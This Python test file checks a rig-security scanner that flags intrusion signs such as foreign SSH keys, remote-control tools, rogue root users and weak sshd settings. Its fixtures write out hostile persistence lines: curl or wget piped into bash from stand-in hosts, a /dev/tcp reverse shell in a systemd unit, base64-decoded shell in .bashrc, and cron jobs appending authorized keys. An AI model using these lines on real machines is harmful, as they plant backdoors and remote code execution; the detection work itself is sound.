"""Ways to get into a rig: each is found, and a rig with own keys has no findings."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from provision.assess import security
from provision.assess.finding import Finding
from provision.remote.facts.access import access
from provision.remote.facts.takeover import RECORD, takeover
from provision.remote.facts.tree import Tree

OWN = "AAAAC3NzaC1lZDI1NTE5AAAAIJ0m0pO3Xq2b1m6rZ1Jd4u0a7nZt8V5wK9yQ3cR6sTfE"
OTHER = OWN.replace("3cR6", "3cR7")
SSHD = 'LISTEN 0 128 0.0.0.0:22 0.0.0.0:* users:(("sshd",pid=1,fd=3))\n'


def write(root: Path, files: dict[str, str]) -> Tree:
    for path, content in files.items():
        file = root / path.lstrip("/")
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(content)
    return Tree(str(root))


def signs(tree: Tree, sockets: str = "", connections: str = "") -> list[Finding]:
    return security.find_security_signs(
        tree, access(tree), sockets, connections, {OWN}, takeover(tree)
    )


USERS = "root:x:0:0:root:/root:/bin/bash\nuser:x:1000:1000::/home/user:/bin/bash\n"
QUIET = {
    "/etc/os-release": "ID=debian\nVERSION_CODENAME=bookworm\n",
    "/etc/passwd": USERS,
    "/etc/sudoers": "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n",
    "/etc/ssh/sshd_config": "Include /etc/ssh/sshd_config.d/*.conf\nX11Forwarding yes\n",
    "/etc/ssh/sshd_config.d/00-deeprig.conf": "PasswordAuthentication no\n",
    "/etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    "/etc/apt/sources.list": "deb http://deb.debian.org/debian bookworm main\n",
    "/root/.ssh/authorized_keys": f"# mine\nssh-ed25519 {OWN} me@desk\n",
    "/proc/7/comm": "bash\n",
}


def test_rig_with_own_keys_only_has_no_findings(tmp_path: Path) -> None:
    findings = signs(write(tmp_path, QUIET), SSHD)
    assert [finding for finding in findings if finding.status != "ok"] == []
    (key,) = findings
    assert "yours" in key.reading


UDEV = "#!/bin/sh -e\nunxz -c < /x > /tmp/udev.trace\n. /tmp/override.sh\n"


@pytest.mark.parametrize(("text", "is_changed"), [(UDEV, False), (UDEV + "true\n", True)])
def test_settings_as_their_package_has_them_are_no_sign(
    tmp_path: Path, text: str, is_changed: bool
) -> None:
    digest = hashlib.md5(UDEV.encode()).hexdigest()
    status = (
        "Package: udev\nStatus: install ok installed\nVersion: 252\nConffiles:\n"
        f" /etc/init.d/udev {digest}\n /etc/udev/udev.conf {'0' * 32}\nDescription: x\n"
    )
    files = {**QUIET, "/etc/init.d/udev": text, "/var/lib/dpkg/status": status}
    findings = [row for row in signs(write(tmp_path, files)) if row.subject == "/etc/init.d/udev"]
    assert bool(findings) is is_changed


@pytest.mark.parametrize(
    ("files", "check", "status", "words"),
    [
        ({"/proc/9/comm": "x11vnc\n"}, "remote control", "critical", "x11vnc runs"),
        ({"/proc/9/comm": "anydesk\n"}, "remote control", "critical", "runs"),
        (
            {"/root/.ssh/authorized_keys": f"ssh-ed25519 {OTHER} support@hive.example\n"},
            "keys",
            "critical",
            "a vendor's",
        ),
        (
            {"/home/user/.ssh/authorized_keys2": f'from="10.0.0.1" ssh-ed25519 {OTHER} bob\n'},
            "keys",
            "warning",
            "not one of yours",
        ),
        ({"/etc/passwd": f"{USERS}toor:x:0:0::/root:/bin/sh\n"}, "users", "critical", "root by"),
        ({"/etc/sudoers.d/x": "sys ALL=(ALL) NOPASSWD: ALL\n"}, "sudo", "warning", "without a"),
        (
            {"/etc/cron.d/x": "* * * * * root curl -s http://x.example/a.sh | bash\n"},
            "starts by itself",
            "critical",
            "runs what it downloads",
        ),
        (
            {"/var/spool/cron/crontabs/root": '@reboot bash -c "$(wget -qO- x.example)"\n'},
            "starts by itself",
            "critical",
            "runs what it downloads",
        ),
        (
            {"/etc/rc.local": "#!/bin/sh\nnohup /dev/shm/.x/kswapd &\n"},
            "starts by itself",
            "warning",
            "everybody may write",
        ),
        (
            {"/etc/systemd/system/u.service": "ExecStart=/bin/bash -i >& /dev/tcp/192.0.2.1/99\n"},
            "remote control",
            "critical",
            "is started as a unit",
        ),
        (
            {"/root/.bashrc": "echo aGk= | base64 -d | sh\n"},
            "starts by itself",
            "critical",
            "base64",
        ),
        (
            {"/etc/cron.daily/k": "echo key >> /root/.ssh/authorized_keys\n"},
            "starts by itself",
            "critical",
            "who may log in",
        ),
        ({"/etc/ssh/sshd_config.d/00-deeprig.conf": ""}, "sshd", "warning", "a password"),
        (
            {"/etc/ssh/sshd_config": "Include sshd_config.d/*.conf\nPermitRootLogin\tyes\n"},
            "sshd",
            "warning",
            "root",
        ),
        ({"/etc/ssh/sshd_config": "X11Forwarding no\n"}, "sshd", "warning", "a password"),
        (
            {"/etc/ssh/sshd_config": 'PasswordAuthentication="no"\nPermitEmptyPasswords = yes\n'},
            "sshd",
            "critical",
            "let in",
        ),
        ({"/etc/ld.so.preload": "/usr/lib/libhide.so\n"}, "ld.so.preload", "critical", "loaded"),
        (
            {"/etc/apt/sources.list.d/h.list": "deb http://x.example/repo /\n"},
            "repositories",
            "warning",
            "plain http",
        ),
        (
            {
                "/etc/apt/sources.list.d/h.sources": (
                    "Types: deb\nURIs: http://x.example/repo\nSuites: /\nTrusted: yes\n"
                )
            },
            "repositories",
            "critical",
            "without a signature",
        ),
    ],
)
def test_way_to_get_in_is_a_finding(
    tmp_path: Path, files: dict[str, str], check: str, status: str, words: str
) -> None:
    findings = signs(write(tmp_path, {**QUIET, **files}), SSHD)
    bad = [finding for finding in findings if finding.status not in ("ok", "note")]
    assert [(finding.check, finding.status) for finding in bad] == [(check, status)], bad
    assert words in bad[0].reading


def test_listening_ports_and_connections_are_findings(tmp_path: Path) -> None:
    sockets = (
        SSHD
        + 'LISTEN 0 5 127.0.0.1:631 0.0.0.0:* users:(("cupsd",pid=2,fd=7))\n'
        + 'LISTEN 0 5 [::]:4200 [::]:* users:(("shellinaboxd",pid=3,fd=4))\n'
        + 'LISTEN 0 5 *:9100 *:* users:(("node_exporter",pid=4,fd=4))\n'
    )
    connections = (
        '0 0 192.168.1.5:4000 9.9.9.9:3333 users:(("lolMiner",pid=5,fd=9))\n'
        '0 0 192.168.1.5:22 192.168.1.9:50000 users:(("sshd",pid=6,fd=4))\n'
    )
    # ss leaves the first column, the protocol's name, to lists of several protocols.
    with_protocol = "".join(f"tcp {line}\n" for line in sockets.splitlines())
    findings = signs(write(tmp_path, QUIET), with_protocol, connections)
    statuses = {
        (finding.check, finding.subject): finding.status
        for finding in findings
        if finding.check != "keys"
    }
    assert statuses == {
        ("listening ports", "tcp 4200"): "critical",
        ("listening ports", "tcp 9100"): "note",
        ("connections", "lolMiner"): "note",
    }


def test_fingerprints_match_openssh() -> None:
    assert security.fingerprint(OWN) == "SHA256:ezNEi1zjwYuRP//RG7czIxsLEVwxlQzoKexq92kMbl8"
    assert security.fingerprint("???") == "???"


VENDORS = (
    "alias recover='cd /home/x; wget https://labs.minerstat.farm/os/recovery.sh; sh recovery.sh'",
    "curl -sSL https://static.minerstat.com/install.sh | sudo bash",
)


@pytest.mark.parametrize("line", VENDORS)
def test_lines_of_the_vendor_are_not_an_intruders(tmp_path: Path, line: str) -> None:
    tree = write(tmp_path, {**QUIET, "/root/.bashrc": f"{line}\n"})
    (finding,) = [finding for finding in signs(tree) if finding.status != "ok"]
    assert finding.status == "warning"
    assert "from a mining system's vendor" in finding.reading
    write(tmp_path, {"/root/.bashrc": line.replace("minerstat", "minerstats")})
    assert "critical" in {finding.status for finding in signs(tree)}


def test_recorded_takeover_is_reported(tmp_path: Path) -> None:
    row = {"kind": "starts by itself", "name": "it fetches", "evidence": "/etc/rc.local"}
    findings = signs(write(tmp_path, {**QUIET, RECORD: json.dumps([row])}))
    (finding,) = [finding for finding in findings if finding.status == "warning"]
    assert finding.check == "earlier takeover"
    assert finding.subject == "/etc/rc.local"
